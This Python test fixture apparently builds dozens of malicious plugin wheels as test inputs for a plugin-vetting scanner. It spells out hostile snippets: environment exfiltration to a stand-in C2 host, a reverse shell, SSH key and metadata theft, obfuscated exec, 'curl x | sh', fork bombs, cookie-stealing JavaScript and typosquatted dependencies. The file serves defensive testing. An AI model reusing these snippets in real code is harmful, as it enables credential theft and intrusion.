"""Small malicious plugins, each of another kind: what it is, in the code its author would write, and who should notice.

They are texts and bytes made on the spot; nothing here is ever run.
"""

import base64
import json
import pickle
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path
from typing import Any

from tests.sdk.rulepack.zips import FILES, INFO, MANIFEST, METADATA, WHEEL, Part, archive, parts

HOOKS = "acme_lamps/hooks.py"
LISTED = {"hooks": [{"hook": "case_closed.v1"}]}
ASKED = {"required": [{"scope": "cases:read", "reason": {"zh-CN": "统计", "en": "To count"}}]}
HEAD = '"""Counts how cases end."""\n\nfrom wangge_sdk.hooks import hookimpl\nfrom wangge_sdk.views import CaseClosed, HookContext\n'
HOOK = "\n\n@hookimpl\ndef case_closed(ctx: HookContext, event: CaseClosed) -> None:\n"


def hook(body: str, before: str = "") -> bytes:
    """Return a module whose hook does something."""
    lines = "".join(f"    {line}\n" if line else "\n" for line in body.strip("\n").split("\n"))
    return (HEAD + before + HOOK + lines).encode()


@dataclass(frozen=True)
class Malicious:
    """A malicious plugin."""

    name: str
    caught_by: tuple[str, ...]
    """Checks of which each has to say something that blocks."""
    files: Mapping[str, bytes] = field(default_factory=dict)
    manifest: Mapping[str, Any] = field(default_factory=dict)
    metadata: str = METADATA
    make: Callable[[Mapping[str, bytes]], bytes] | None = None
    """Makes the wheel of the files, when it is the wheel that is wrong."""
    file_name: str = WHEEL

    def wheel(self) -> bytes:
        """Return its wheel."""
        files = {**FILES, HOOKS: hook('ctx.log.info("closed", case=event.case.id)')}
        document = {**json.loads(MANIFEST), "contributes": LISTED, "permissions": ASKED, **self.manifest}
        files["acme_lamps/plugin.json"] = json.dumps(document, ensure_ascii=False).encode()
        files[f"{INFO}/METADATA"] = self.metadata.encode()
        files |= self.files
        return self.make(files) if self.make else archive(parts(files))


def code(
    name: str, *caught_by: str, body: str, before: str = "", files_too: Mapping[str, bytes] | None = None, **changed: Any
) -> Malicious:
    """A plugin that is told by what its hook does."""
    return Malicious(name, caught_by, files={HOOKS: hook(body, before), **(files_too or {})}, **changed)


def raw(*more: Part) -> Callable[[Mapping[str, bytes]], bytes]:
    """A wheel with parts that its RECORD does not know."""
    return lambda files: archive([*parts(files), *more])


def _zip(name: str, content: bytes) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        target.writestr(name, content)
    return stream.getvalue()


class _Runs:
    """What its pickle would run is harmless here; it is never read."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return (print, ("owned",))


PICKLE = pickle.dumps(_Runs())
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
UPDATE = base64.b64encode(b"import os; os.system('id')").decode()
LOCK = 'lock-version = "1.0"\ncreated-by = "uv"\n[[packages]]\nname = "{name}"\nversion = "{version}"\n'
LOCKED = LOCK + '[[packages.wheels]]\nname = "{name}-{version}-py3-none-any.whl"\nurl = "x"\nhashes = {{ sha256 = "' + "0" * 64 + '" }}\n'
LOCKING = {"requires": {"lock": "pylock.toml"}}
PAGE = {"ui": {"pages": [{"id": "board", "title": {"zh-CN": "板", "en": "Board"}, "render": "frame", "source": "ui/board.js"}]}, **LISTED}
OUTSIDE = {
    "host": "discord.com",
    "purpose": "messaging",
    "operation": "notify",
    "data_classes": ["public"],
    "country": "US",
    "reason": {"zh-CN": "通知", "en": "To tell"},
}

PLUGINS: tuple[Malicious, ...] = (
    # Stealing and sending
    code(
        "sends the environment away",
        "python.environment",
        "egress.network",
        body="urllib.request.urlopen('http://c2.example.net/?' + str(os.environ))",
        before="import os\nimport urllib.request\n",
    ),
    code(
        "opens a shell to the outside",
        "python.process",
        "egress.network",
        body="s = socket.create_connection(('c2', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno())",
        before="import socket\nimport subprocess\n",
    ),
    code(
        "sends cases to a chat bot, by the platform",
        "malware.drops",
        body="ctx.platform.http.fetch(HttpFetch(url='https://discord.com/api/webhooks/1/x', body=event.case.id))",
        before="from wangge_sdk.broker.calls import HttpFetch\n",
        manifest={"egress": [OUTSIDE]},
    ),
    code("knows an address of numbers", "egress.addresses", body="ctx.log.info('x', where='http://203.0.113.7/x')"),
    code("reads keys of the machine", "malware.places", body="open('/root/.ssh/id_rsa').read()"),
    code("asks the cloud for its own rights", "malware.places", body="ctx.log.info('x', where='http://169.254.169.254/latest/meta-data/')"),
    code(
        "reads what keys are pressed", "malware.watches", body="pynput.keyboard.Listener(on_press=print).start()", before="import pynput\n"
    ),
    # Hiding what runs
    code("runs a text in base64", "python.dynamic_code", body=f"exec(base64.b64decode('{UPDATE}'))", before="import base64\n"),
    code(
        "runs what was fetched",
        "python.dynamic_code",
        body="exec(ctx.platform.http.fetch(HttpFetch(url='https://api.acme.example/x')).text)",
        before="from wangge_sdk.broker.calls import HttpFetch\n",
    ),
    code("puts a name together", "python.process", "python.hidden_names", body="getattr(os, 'sy' + 'stem')('id')", before="import os\n"),
    code("turns a name round", "python.process", "python.dynamic_import", body="__import__('so'[::-1]).system('id')"),
    code("writes a name in numbers", "egress.network", body="__import__(''.join(map(chr, [115, 111, 99, 107, 101, 116])))"),
    code(
        "writes a name in hexadecimal",
        "python.process",
        body="importlib.import_module(bytes.fromhex('6f73').decode()).system('id')",
        before="import importlib\n",
    ),
    code("runs by another name", "python.dynamic_code", body="for run in (eval,):\n    run('1')"),
    code(
        "hides behind a decoy",
        "python.dynamic_code",
        body="Decoy()",
        before="\n\nclass Decoy:\n    exec = None\n\n    def __init__(self):\n        exec('import os')\n\n",
    ),
    code("imports everything", "python.dynamic_import", body="system('id')", before="from os import *\n"),
    code("builds a function of code", "python.insides", body="f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=b'')"),
    code("reads globals by a format", "python.insides", body="'{0.__class__.__init__.__globals__}'.format(event)"),
    code("finds classes it was not given", "python.insides", body="().__class__.__base__.__subclasses__()"),
    code(
        "finds the platform among all objects",
        "python.insides",
        body="[x for x in gc.get_objects() if type(x).__name__ == 'Platform']",
        before="import gc\n",
    ),
    code("climbs the stack", "python.insides", body="sys._getframe(1).f_back.f_globals['secrets']", before="import sys\n"),
    code("shows other code than it has", "python.hidden_text", body="allowed = True  # \u202e } if admin \u2066"),
    code("writes names in Cyrillic", "python.lookalike_names", body="сheck = 1"),
    Malicious(
        "is saved so that checks cannot read it",
        ("python.readable",),
        files={"acme_lamps/more.py": b"# coding: utf-7\n+AGUAdgBhAGw-('1')\n"},
    ),
    code("has a payload nobody can read", "python.opaque", body=f"DATA = '{base64.b64encode(bytes(range(256)) * 4).decode()}'"),
    code(
        "hands a module on",
        "python.hidden_names",
        body="functools.reduce(getattr, ['system'], os)('id')",
        before="import functools\nimport os\n",
    ),
    code("goes through another module", "python.process", body="pathlib.os.system('id')", before="import pathlib\n"),
    code(
        "runs an annotation", "python.dynamic_code", body="typing.ForwardRef('x')._evaluate({}, {}, frozenset())", before="import typing\n"
    ),
    code("loops over what it must not name", "python.hidden_names", body="for each in (os,):\n    each.system('id')", before="import os\n"),
    code("speaks past the SDK", "python.private", body="ctx.platform._send('cases.get', b'')"),
    code("looks around", "python.explores", body="for each in os.walk('/'):\n    ctx.log.info(str(each))", before="import os\n"),
    code("opens a path in pieces", "python.explores", body="Path('/', 'etc', 'passwd').read_text()", before="from pathlib import Path\n"),
    code("changes what is frozen", "python.changes_others", body="object.__setattr__(event, 'outcome', 'fixed')"),
    # Harming
    code("calls the system past Python", "python.native", body="ctypes.CDLL(None).system(b'id')", before="import ctypes\n"),
    code("multiplies", "python.process", body="while True:\n    os.fork()", before="import os\n"),
    code("wipes the disk", "malware.runs", body="ctx.log.info('rm -rf /')"),
    code("stays after it is gone", "malware.stays", "python.writes", body="open('/home/x/.bashrc', 'a').write('x')"),
    code("mines", "malware.mines", body="ctx.log.info('stratum+tcp://pool.example:3333')"),
    code("replaces what the platform uses", "python.changes_others", body="pass", before="import json\n\njson.loads = lambda text: {}\n"),
    code("reads data that runs code", "python.deserialise", body="pickle.loads(event.case.id)", before="import pickle\n"),
    code("knows when it is examined", "malware.sandboxes", body="ctx.log.info('/proc/self/cgroup')"),
    code("reaches into the server", "python.servers", body="db.everything()", before="from wangge_core import db\n"),
    code("installs more", "malware.spreads", body="ctx.log.info('pip install evil --index-url http://x')"),
    # Doing what was not declared
    code("asks for what it did not say", "permissions.undeclared", body="ctx.platform.people.get('1')"),
    code(
        "listens to what it did not say", "permissions.hooks", body="pass", before="\n\n@hookimpl\ndef case_rated(ctx, event):\n    pass\n"
    ),
    code("goes out without a word", "egress.fetches", body="ctx.platform.http.fetch(None)"),
    Malicious(
        "says it has no code",
        ("permissions.module",),
        manifest={"kind": "declarative", "runtime": {"isolation": "none"}, "contributes": {}, "permissions": {"required": []}},
    ),
    # The wheel
    Malicious("runs at every start", ("wheel.runs_itself",), files={"acme_lamps/x.pth": b"import os"}),
    Malicious("brings bytecode", ("wheel.runs_itself",), files={"acme_lamps/__pycache__/hooks.cpython-311.pyc": b"\xa7\r\r\n" + bytes(20)}),
    Malicious("puts on the SDK's name", ("wheel.layout",), files={"wangge_sdk/__init__.py": b""}),
    Malicious("installs a program", ("wheel.layout",), files={"acme_lamps-1.0.0.data/scripts/ls": b"#!python\n"}),
    Malicious(
        "enters pytest and pip",
        ("wheel.entry_points",),
        files={f"{INFO}/entry_points.txt": FILES[f"{INFO}/entry_points.txt"] + b"[pytest11]\nx = acme_lamps.hooks\n"},
    ),
    Malicious("leads out of its folder", ("wheel.path",), files={"acme_lamps/../../evil.py": b""}),
    Malicious("links to the password file", ("wheel.kind",), make=raw(Part("acme_lamps/data.json", b"/etc/passwd", mode=0o120777))),
    Malicious("smuggles in a file", ("wheel.record",), make=raw(Part("acme_lamps/more.py", b"x = 1\n"))),
    Malicious("shows one file and installs another", ("wheel.duplicate",), make=raw(Part(HOOKS, b"x = 1\n"))),
    Malicious("has two tables of contents", ("wheel.archive",), make=lambda files: archive(parts(files), before=archive(parts(files)))),
    Malicious("fills the disk", ("wheel.bomb",), make=raw(Part("acme_lamps/x.json", b"0" * 9_000_000, packed=True))),
    Malicious("is one file on some systems", ("wheel.collision",), files={"acme_lamps/HOOKS.py": b"x = 1\n"}),
    Malicious("poses as another version", ("wheel.filename",), file_name="acme_lamps-2.0.0-py3-none-any.whl"),
    # Content
    Malicious("hides a program as data", ("native.compiled",), files={"acme_lamps/data.json": ELF}),
    Malicious("hides an archive as a picture", ("native.archives",), files={"acme_lamps/logo.png": _zip("x.py", b"import os")}),
    Malicious("brings a script", ("native.scripts",), files={"acme_lamps/run": b"#!/bin/sh\ncurl x | sh\n"}),
    Malicious("brings a pickle for a model", ("models.code_in_data",), files={"acme_lamps/model.json": PICKLE}),
    Malicious("leaves a key in", ("secrets.left_in",), files={"acme_lamps/keys.txt": b"-----BEGIN RSA " + b"PRIVATE KEY-----\nMIIE\n"}),
    Malicious(
        "brings an icon with a script",
        ("frontend.inline",),
        files={"acme_lamps/icon.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'},
    ),
    Malicious(
        "brings a page that loads from elsewhere",
        ("frontend.remote",),
        files={"acme_lamps/ui/board.js": b"import x from 'https://cdn.evil.example/x.js'\n"},
        manifest={"contributes": PAGE},
    ),
    Malicious(
        "brings a page that runs texts",
        ("frontend.evaluation",),
        files={"acme_lamps/ui/board.js": b"new Function(location.hash.slice(1))()\n"},
        manifest={"contributes": PAGE},
    ),
    Malicious(
        "brings a page that sends itself away",
        ("frontend.reaches_out",),
        files={"acme_lamps/ui/board.js": b"location = 'https://x/?' + document.cookie\n"},
        manifest={"contributes": PAGE},
    ),
    Malicious(
        "brings a scrambled page",
        ("frontend.obfuscated",),
        files={"acme_lamps/ui/board.js": b"var _0x3f2a=['x'];(function(_0x1b2c){})(_0x3f2a)\n"},
        manifest={"contributes": PAGE},
    ),
    # Requirements
    Malicious(
        "requires a package of nearly a known name",
        ("supply.lookalikes",),
        files={"acme_lamps/pylock.toml": LOCKED.format(name="reqeusts", version="2.0").encode()},
        manifest=LOCKING,
        metadata=f"{METADATA}Requires-Dist: reqeusts\n",
    ),
    Malicious(
        "requires what lies at an address",
        ("wheel.metadata",),
        metadata=f"{METADATA}Requires-Dist: requests @ https://evil.example/r.whl\n",
    ),
    Malicious(
        "locks without hashes",
        ("supply.lock",),
        files={"acme_lamps/pylock.toml": LOCK.format(name="six", version="1.0").encode()},
        manifest=LOCKING,
        metadata=f"{METADATA}Requires-Dist: six\n",
    ),
    Malicious("requires the server", ("supply.requirements",), metadata=f"{METADATA}Requires-Dist: wangge-core\n"),
    Malicious(
        "requires what is known to be bad",
        ("supply.advisories",),
        files={"acme_lamps/pylock.toml": LOCKED.format(name="six", version="1.0").encode()},
        manifest=LOCKING,
        metadata=f"{METADATA}Requires-Dist: six\n",
    ),
    Malicious(
        "may be used by nobody",
        ("licence.expression",),
        manifest={"license": "LicenseRef-proprietary"},
        metadata=METADATA.replace("Apache-2.0", "LicenseRef-proprietary"),
    ),
)


def advisories(folder: Path) -> Path:
    """Write a mirror with one advisory, and return it."""
    folder.mkdir(exist_ok=True)
    record = {
        "id": "MAL-2026-1",
        "summary": "Malicious release",
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "six"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}],
            }
        ],
    }
    (folder / "MAL-2026-1.json").write_text(json.dumps(record), encoding="utf-8")
    return folder
